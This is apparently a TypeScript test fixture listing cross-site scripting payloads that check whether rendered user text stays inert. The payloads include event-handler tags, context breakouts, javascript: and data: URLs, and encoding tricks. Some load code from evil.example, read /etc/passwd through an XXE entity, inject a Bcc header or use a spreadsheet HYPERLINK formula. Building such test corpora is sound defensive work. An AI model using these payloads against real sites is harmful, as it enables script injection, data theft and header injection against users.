/**
 * What somebody may write who wants a script to run where others read it: made of ways to begin a script,
 * ways to say that it ran (`window.__ran`), and ways out of whatever the text stands in. One corpus for all
 * tests that show people's words.
 */
/** Stands in each that would run. */
export const RAN = '__ran'
const RUN = 'window.__ran=(window.__ran||0)+1'
const CODED = 'window.__ran&#61;1'

const TAGS = [
  'svg',
  'img',
  'body',
  'video',
  'audio',
  'iframe',
  'details',
  'input',
  'math',
  'a',
  'marquee',
  'object',
]
const HANDLERS = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart', 'onbegin']
const OUT_OF = [
  '',
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  ']]>',
  '</template>',
]

const elements = TAGS.flatMap((tag) =>
  HANDLERS.map((on, at) => {
    const more = tag === 'img' || tag === 'video' || tag === 'audio' ? ' src=x' : ' autofocus open tabindex=0'
    const between = [' ', '/', '\t', '\n', '\f'][at % 5]
    return `<${tag}${between}${more} ${on}=${RUN}>`
  }),
)

const breakouts = OUT_OF.flatMap((out) => [
  `${out}<script>${RUN}</script>`,
  `${out}<img src=x onerror="${RUN}">`,
  `${out}<svg><script>${RUN}</script></svg>`,
  `${out}<ScRiPt/x>${RUN}</sCrIpT >`,
])

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==',
  `vbscript:${RUN}`,
  'file:///etc/passwd',
  '//evil.example/x.js',
  'https://good.example@evil.example/',
  `livescript:${RUN}`,
]

const addresses = ADDRESSES.flatMap((to) => [
  to,
  `[good.example](${to})`,
  `![x](${to})`,
  `<a href="${to}">https://good.example</a>`,
  `<${to}>`,
  `<form action="${to}"><button>x</button></form>`,
  `<iframe src="${to}"></iframe>`,
  `[x]: ${to}\n\n[x]`,
])

const odd = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<template><script>${RUN}</script></template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x">`,
  `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
  `<img src="x\`onerror=${RUN}\`">`,
  `<img src=x:x onerror\x0b=${RUN}>`,
  `<img src=x onerror=${CODED}>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `<script\0>${RUN}</script\0>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<div style="background:url(javascript:${RUN})">`,
  `<div style="width:expression(${RUN})">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<xss id=x tabindex=1 onfocusin=${RUN}></xss>`,
  `<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=${RUN}>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<isindex action=javascript:${RUN} type=image>`,
  `<plaintext>`,
  `<!--<img src="--><img src=x onerror=${RUN}>">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  `\u2028</script><script>${RUN}</script>\u2029`,
  `</script\u0020><script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{{name}} $t(common:product.title)`,
  `';${RUN};'`,
  `";${RUN};"`,
  `\\";${RUN};//`,
  `*/${RUN}/*`,
  `\`;${RUN};\``,
  `- <b onmouseover=${RUN}>x</b>`,
  `# <img src=x onerror=${RUN}>`,
  `\`\`\`\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `| a | b |\n|--|--|\n| <script>${RUN}</script> | [x](javascript:${RUN}) |`,
  `> <iframe srcdoc="<script>${RUN}</script>">`,
  `<https://good.example" onmouseover=${RUN}>`,
  `[x](https://good.example "x\\" onmouseover=${RUN}")`,
  `Ada\r\nDESCRIPTION:evil\r\nEND:VEVENT`,
  `Ada\r\nBcc: b@evil.example`,
  `=HYPERLINK("https://evil.example";"x")`,
  `<a id=__ran name=__ran></a>`,
  `<form id=document><input name=cookie></form>`,
  `\u202Etxet<script>${RUN}</script>`,
]

export const PAYLOADS: readonly string[] = [...new Set([...elements, ...breakouts, ...addresses, ...odd])]
